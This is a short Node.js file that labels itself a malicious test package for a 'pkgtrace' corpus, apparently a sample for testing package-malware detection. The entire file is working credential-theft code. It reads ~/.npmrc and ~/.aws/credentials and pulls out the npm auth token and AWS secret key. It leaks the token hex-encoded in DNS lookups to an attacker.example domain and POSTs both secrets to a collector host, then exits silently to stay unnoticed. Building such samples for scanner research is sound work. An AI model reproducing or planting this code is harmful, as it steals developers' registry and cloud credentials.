'use strict';
// MALICIOUS TEST PACKAGE (pkgtrace corpus). Run it only inside the sandbox.
// Reads ~/.npmrc and ~/.aws/credentials, then exfiltrates the npm token
// hex-encoded in a DNS name and both secrets in an HTTP POST.
const fs = require('fs');
const os = require('os');
const path = require('path');
const dns = require('dns');
const http = require('http');

// Whatever happens, be gone after 3 s.
setTimeout(() => process.exit(0), 3000).unref();
process.on('uncaughtException', () => process.exit(0));

function read(rel) {
  try { return fs.readFileSync(path.join(os.homedir(), rel), 'utf8'); } catch (e) { return ''; }
}

const npmrc = read('.npmrc');
const aws = read('.aws/credentials');
const npmToken = (/_authToken\s*=\s*(\S+)/.exec(npmrc) || [])[1] || '';
const awsSecret = (/aws_secret_access_key\s*=\s*(\S+)/.exec(aws) || [])[1] || '';

let pending = 0;
function done() { if (--pending <= 0) process.exit(0); }

// DNS: hex of the token, split into labels of at most 62 characters.
if (npmToken) {
  const hex = Buffer.from(npmToken).toString('hex');
  const labels = hex.match(/.{1,62}/g);
  pending++;
  try { dns.lookup(labels.join('.') + '.x.attacker.example', () => done()); } catch (e) { done(); }
}

// HTTP POST to the collector; errors ignored.
pending++;
try {
  const body = JSON.stringify({ host: os.hostname(), npm: npmToken, aws: awsSecret });
  const req = http.request({
    host: 'exfil.attacker.example', port: 80, path: '/collect', method: 'POST', timeout: 2500,
    headers: { 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(body) },
  }, (res) => { res.resume(); res.on('end', done); res.on('error', done); });
  req.on('error', done);
  req.on('timeout', () => req.destroy());
  req.end(body);
} catch (e) { done(); }
